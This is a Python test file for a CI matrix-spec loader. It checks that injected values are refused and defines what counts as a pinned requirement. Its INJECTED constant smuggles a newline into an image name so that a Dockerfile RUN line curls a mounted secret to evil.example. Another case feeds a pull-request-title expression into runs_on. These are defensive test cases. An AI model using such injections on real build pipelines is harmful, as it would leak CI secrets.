"""What a matrix spec may put into a workflow or a bake file (security review f1b4bec, N7): an
``image`` with a newline injected a RUN with a secret mount into bake's inline Dockerfile,
``runs_on`` took a ``${{ }}`` expression, an environment-marker range passed as "pinned", and a
trailing newline slipped through ``name`` and ``[cache.env]`` keys (``$`` matches before it)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from torchsmith.errors import SpecError
from torchsmith.matrix import load_matrix
from torchsmith.matrix.model import pinned

INJECTED = 'python:3.11-bookworm\nRUN --mount=type=secret,id=K curl -d "$K" https://evil.example/'
AXES = '\n[axes]\npython = ["3.11"]\n'


def _load(tmp_path: Path, head: str) -> None:
    path = tmp_path / "matrix.toml"
    path.write_text(head + AXES)
    load_matrix(path)


def _toml(key: str, value: str) -> str:
    return f"{key} = {json.dumps(value)}"  # a JSON string is a TOML basic string


@pytest.mark.parametrize(
    ("head", "said"),
    [
        (_toml("runs_on", "${{ github.event.pull_request.title }}"), "not a runner label"),
        (_toml("runs_on", "ubuntu-22.04\n"), "control character"),
        (_toml("image", INJECTED), "not an image reference"),
        (_toml("image", "python:3.11 AS x"), "not an image reference"),
        (_toml("torchsmith", "torchsmith>=0.1 ; python_version == '3.11'"), "not pinned"),
        (_toml("name", "inj\n"), "control character"),
        ('[cache.env]\n"FOO\\n" = "secrets.FOO"', "control character"),
        ('[cache.env]\nFOO = "secrets.FOO\\n"', "control character"),
    ],
)
def test_values_that_would_inject_are_refused(tmp_path: Path, head: str, said: str) -> None:
    with pytest.raises(SpecError, match=said):
        _load(tmp_path, head)


@pytest.mark.parametrize(
    ("requirement", "ok"),
    [
        ("torchsmith==0.1.0", True),
        ("torchsmith===0.1.0", True),
        ("torchsmith @ https://example.org/t-0.1.0.tar.gz#sha256=" + "a" * 64, True),
        ("torchsmith @ git+https://example.org/torchsmith@" + "b" * 40, True),
        ("git+https://example.org/torchsmith@" + "b" * 40, True),
        ("torchsmith>=0.1 ; python_version == '3.11'", False),
        ("torchsmith==0.1.0 ; python_version == '3.11'", False),
        ("torchsmith==0.*", False),
        ("torchsmith>=0.1,==0.1.0", False),
        ("torchsmith @ https://example.org/t-0.1.0.tar.gz", False),
        ("torchsmith[extra]==0.1.0", False),
    ],
)
def test_pinned_means_one_release_a_hashed_url_or_a_commit(requirement: str, ok: bool) -> None:
    assert pinned(requirement) is ok


def test_ordinary_values_pass(tmp_path: Path) -> None:
    _load(tmp_path, 'runs_on = "self-hosted"\nimage = "registry.example:5000/py:3.11@sha256:'
          + "c" * 64 + '"\nname = "seed-2"\n[cache.env]\nAWS_KEY = "secrets.AWS_KEY"')  # fmt: skip


def test_a_deeply_nested_matrix_spec_is_a_spec_error(tmp_path: Path) -> None:
    """Security review f1b4bec N16: RecursionError, exit 70."""
    path = tmp_path / "deep.toml"
    path.write_text("a = " + "[" * 100_000 + "]" * 100_000 + "\n")
    with pytest.raises(SpecError, match="nested too deeply"):
        load_matrix(path)
